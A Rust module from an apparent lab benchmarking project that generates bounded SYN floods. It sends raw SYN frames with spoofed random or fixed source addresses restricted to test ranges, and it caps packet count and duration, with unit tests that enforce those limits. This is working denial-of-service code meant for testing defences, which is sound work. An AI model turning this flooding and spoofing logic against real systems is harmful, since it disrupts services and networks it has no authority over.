//! A bounded SYN flood generator: crafted SYNs sent from a lab namespace
//! through an AF_PACKET socket, from random or fixed sources inside the
//! benchmarking ranges, stopped by whichever bound comes first: packet
//! count, duration, or a stop flag.

use std::{
    net::IpAddr,
    sync::atomic::{AtomicBool, AtomicU64, Ordering},
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};

use anyhow::{Result, bail};

use crate::{
    inject::Injector,
    packets::{SYN, TcpPacket, checksum, linux_syn_options, transport_checksum},
};

/// Hard ceilings: no flood from this project runs longer or sends more.
pub const MAX_COUNT: u64 = 50_000_000;
pub const MAX_DURATION: Duration = Duration::from_secs(600);

/// Where SYNs come from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Sources {
    /// A random address per SYN from this network (e.g. 198.19.0.0/16).
    Random { network: IpAddr, prefix_len: u8 },
    /// Every SYN from one address.
    Fixed(IpAddr),
}

#[derive(Clone, Debug)]
pub struct FloodSpec {
    pub dst: IpAddr,
    pub dst_port: u16,
    pub dst_mac: [u8; 6],
    pub sources: Sources,
    /// SYNs per second; 0: as fast as the socket takes them.
    pub rate: u64,
    pub count: u64,
    pub duration: Duration,
}

#[derive(Clone, Copy, Debug, PartialEq)]
pub struct FloodReport {
    pub sent: u64,
    pub elapsed: Duration,
}

impl FloodReport {
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// Whether `addr` lies in the ranges test traffic may use (198.18.0.0/15,
/// 2001:2::/48).
pub fn in_test_ranges(addr: IpAddr) -> bool {
    match addr {
        IpAddr::V4(a) => a.octets()[0] == 198 && (a.octets()[1] & 0xfe) == 18,
        IpAddr::V6(a) => a.segments()[..3] == [0x2001, 0x0002, 0x0000],
    }
}

impl FloodSpec {
    fn check(&self) -> Result<()> {
        if self.count == 0 || self.count > MAX_COUNT {
            bail!("count must be from 1 to {MAX_COUNT}");
        }
        if self.duration.is_zero() || self.duration > MAX_DURATION {
            bail!("duration must be from 1ms to {}s", MAX_DURATION.as_secs());
        }
        let (sample, min_len) = match self.sources {
            Sources::Random { network, prefix_len } => (network, prefix_len),
            Sources::Fixed(addr) => (addr, if addr.is_ipv4() { 32 } else { 128 }),
        };
        let family_len = if sample.is_ipv4() { 15 } else { 48 };
        if !in_test_ranges(sample) || min_len < family_len {
            bail!("sources must lie inside 198.18.0.0/15 or 2001:2::/48 (got {sample}/{min_len})");
        }
        if sample.is_ipv4() != self.dst.is_ipv4() {
            bail!("sources and destination must be the same IP version");
        }
        Ok(())
    }
}

/// xorshift64*: fast, and good enough to spread sources and ports.
struct Rng(u64);

impl Rng {
    /// A sequence no other flood repeats: two floods sending identical SYNs
    /// would make the second look like retransmissions of the first.
    fn fresh() -> Rng {
        static FLOODS: AtomicU64 = AtomicU64::new(0);
        let clock = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map_or(0, |d| d.as_nanos() as u64);
        let flood = FLOODS.fetch_add(1, Ordering::Relaxed);
        let mut rng = Rng(clock ^ (u64::from(std::process::id()) << 40) ^ (flood << 20) | 1);
        // Mix, so that nearby seeds do not start alike.
        for _ in 0..8 {
            rng.next();
        }
        rng
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

/// Sends the flood; returns when a bound is reached or `stop` is set.
pub fn flood(injector: &Injector, spec: &FloodSpec, stop: &AtomicBool) -> Result<FloodReport> {
    spec.check()?;
    let first_source = match spec.sources {
        Sources::Random { network, .. } | Sources::Fixed(network) => network,
    };
    let mut template = TcpPacket::new(first_source, spec.dst, 1024, spec.dst_port, SYN);
    template.tcp_options = linux_syn_options(1460, 1, 7);
    template.dst_mac = spec.dst_mac;
    let mut frame = template.frame();
    let l3 = 14;
    let v4 = spec.dst.is_ipv4();
    let (src_at, src_len, l4) = if v4 {
        (l3 + 12, 4, l3 + 20)
    } else {
        (l3 + 8, 16, l3 + 40)
    };

    let mut rng = Rng::fresh();
    let start = Instant::now();
    let mut sent = 0u64;
    while sent < spec.count && !stop.load(Ordering::Relaxed) {
        // Paced in bursts of 32: a burst of 256 would fill a veth pair's
        // whole receive ring (256 frames) and cost the lab's real clients
        // their SYNs, a loss no defence behind the ring can help.
        if sent.is_multiple_of(32) {
            let elapsed = start.elapsed();
            if elapsed >= spec.duration {
                break;
            }
            if spec.rate > 0 {
                let due = Duration::from_secs_f64(sent as f64 / spec.rate as f64);
                if due > elapsed {
                    std::thread::sleep(due - elapsed);
                }
            }
        }
        let source = match spec.sources {
            Sources::Fixed(addr) => addr,
            Sources::Random { network, prefix_len } => random_in(network, prefix_len, rng.next(), rng.next()),
        };
        write_addr(&mut frame[src_at..src_at + src_len], source);
        let r = rng.next();
        frame[l4..l4 + 2].copy_from_slice(&((r as u16) | 1024).to_be_bytes());
        frame[l4 + 4..l4 + 8].copy_from_slice(&((r >> 16) as u32).to_be_bytes());
        fix_checksums(&mut frame, v4, source, spec.dst);
        injector.send(&frame)?;
        sent += 1;
    }
    Ok(FloodReport {
        sent,
        elapsed: start.elapsed(),
    })
}

fn random_in(network: IpAddr, prefix_len: u8, a: u64, b: u64) -> IpAddr {
    match network {
        IpAddr::V4(n) => {
            let host_bits = 32 - prefix_len as u32;
            let mask = if host_bits == 0 {
                0
            } else {
                u32::MAX >> (32 - host_bits)
            };
            IpAddr::V4(std::net::Ipv4Addr::from(
                (u32::from(n) & !mask) | (a as u32 & mask),
            ))
        }
        IpAddr::V6(n) => {
            let host_bits = 128 - prefix_len as u32;
            let mask = if host_bits == 0 {
                0
            } else {
                u128::MAX >> (128 - host_bits)
            };
            let random = (u128::from(a) << 64) | u128::from(b);
            IpAddr::V6(std::net::Ipv6Addr::from(
                (u128::from(n) & !mask) | (random & mask),
            ))
        }
    }
}

fn write_addr(out: &mut [u8], addr: IpAddr) {
    match addr {
        IpAddr::V4(a) => out.copy_from_slice(&a.octets()),
        IpAddr::V6(a) => out.copy_from_slice(&a.octets()),
    }
}

/// Recomputes the IPv4 header and TCP checksums of a frame built by `flood`.
fn fix_checksums(frame: &mut [u8], v4: bool, src: IpAddr, dst: IpAddr) {
    let l3 = 14;
    let l4 = if v4 { l3 + 20 } else { l3 + 40 };
    if v4 {
        frame[l3 + 10..l3 + 12].copy_from_slice(&[0, 0]);
        let sum = checksum(&frame[l3..l4], 0);
        frame[l3 + 10..l3 + 12].copy_from_slice(&sum.to_be_bytes());
    }
    frame[l4 + 16..l4 + 18].copy_from_slice(&[0, 0]);
    let sum = transport_checksum(src, dst, &frame[l4..]);
    frame[l4 + 16..l4 + 18].copy_from_slice(&sum.to_be_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn random_sources_stay_in_their_network() {
        let net: IpAddr = "198.19.0.0".parse().unwrap();
        let mut rng = Rng(7);
        for _ in 0..1000 {
            let a = random_in(net, 16, rng.next(), rng.next());
            assert!(a.to_string().starts_with("198.19."), "{a}");
        }
        let net6: IpAddr = "2001:2:0:8000::".parse().unwrap();
        for _ in 0..1000 {
            let a = random_in(net6, 49, rng.next(), rng.next());
            assert!(in_test_ranges(a), "{a}");
        }
    }

    #[test]
    fn floods_outside_the_test_ranges_are_refused() {
        let spec = FloodSpec {
            dst: "198.18.0.1".parse().unwrap(),
            dst_port: 80,
            dst_mac: [0; 6],
            sources: Sources::Random {
                network: "10.0.0.0".parse().unwrap(),
                prefix_len: 8,
            },
            rate: 0,
            count: 10,
            duration: Duration::from_secs(1),
        };
        assert!(spec.check().is_err());
        let wide = FloodSpec {
            sources: Sources::Random {
                network: "198.18.0.0".parse().unwrap(),
                prefix_len: 8,
            },
            ..spec.clone()
        };
        assert!(wide.check().is_err(), "a /8 reaches outside 198.18.0.0/15");
        let unbounded = FloodSpec {
            sources: Sources::Fixed("198.19.1.1".parse().unwrap()),
            count: MAX_COUNT + 1,
            ..spec
        };
        assert!(unbounded.check().is_err());
    }
}
